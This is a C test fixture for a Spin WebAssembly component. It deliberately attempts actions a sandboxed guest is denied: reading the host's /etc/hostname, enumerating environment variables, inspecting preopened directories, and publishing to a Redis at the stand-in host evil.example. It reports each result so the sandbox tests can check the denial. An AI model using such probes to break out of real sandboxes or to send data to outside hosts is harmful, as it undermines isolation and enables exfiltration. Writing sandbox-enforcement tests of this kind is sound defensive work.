// A fermyon:spin/inbound-http guest (world hops-ingress) that tries what a Spin component may not
// do, for the sandbox tests: find a preopened directory, open a host file, read the host's
// environment, and publish to a Redis the manifest does not allow. It also draws randomness and
// publishes to the allowed Redis, which Spin does grant. It answers 200 with one line of results:
//   prestat=<errno> open=<errno> environ=<count> entropy=<errno> allowed=<0 ok|1 err> denied=<0 ok|1 err>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <wasi/api.h>

#define EXPORT(name) __attribute__((export_name(name)))

extern char **environ;

__attribute__((import_module("fermyon:spin/redis"), import_name("publish")))
extern void spin_redis_publish(const char *address, size_t address_len, const char *channel, size_t channel_len,
                               const uint8_t *payload, size_t payload_len, uint8_t *ret);

EXPORT("cabi_realloc")
void *cabi_realloc(void *old, size_t old_size, size_t align, size_t new_size) {
    (void)old_size;
    (void)align; // malloc's 16-byte alignment covers every canonical ABI alignment
    return realloc(old, new_size ? new_size : 1);
}

static int publish(const char *address) {
    static const char channel[] = "sandbox.events";
    static const uint8_t payload[] = "probe";
    uint8_t ret[2] = {0xFF, 0xFF};
    spin_redis_publish(address, strlen(address), channel, sizeof channel - 1, payload, sizeof payload - 1, ret);
    return ret[0];
}

static uint32_t response[7];
static char body[200];

EXPORT("fermyon:spin/inbound-http#handle-request")
uint8_t *handle_request(int32_t method, int32_t uri, int32_t uri_len, int32_t headers, int32_t headers_len,
                        int32_t params, int32_t params_len, int32_t has_body, int32_t body_ptr, int32_t body_len) {
    (void)method; (void)uri; (void)uri_len; (void)headers; (void)headers_len;
    (void)params; (void)params_len; (void)has_body; (void)body_ptr; (void)body_len;

    __wasi_prestat_t prestat;
    int prestat_errno = __wasi_fd_prestat_get(3, &prestat);

    FILE *f = fopen("/etc/hostname", "r");
    int open_errno = f ? 0 : errno;
    if (f) fclose(f);

    int environ_count = 0;
    for (char **e = environ; e && *e; e++) environ_count++;

    uint8_t buf[16];
    int entropy_errno = getentropy(buf, sizeof buf) == 0 ? 0 : errno;

    int allowed = publish("redis://127.0.0.1:6379");
    int denied = publish("redis://evil.example:6379");

    int n = snprintf(body, sizeof body, "prestat=%d open=%d environ=%d entropy=%d allowed=%d denied=%d\n",
                     prestat_errno, open_errno, environ_count, entropy_errno, allowed, denied);
    // response: status u16 @0, headers option @4 (none), body option @16 (some: ptr @20, len @24)
    memset(response, 0, sizeof response);
    response[0] = 200;
    response[4] = 1;
    response[5] = (uint32_t)(uintptr_t)body;
    response[6] = (uint32_t)n;
    return (uint8_t *)response;
}
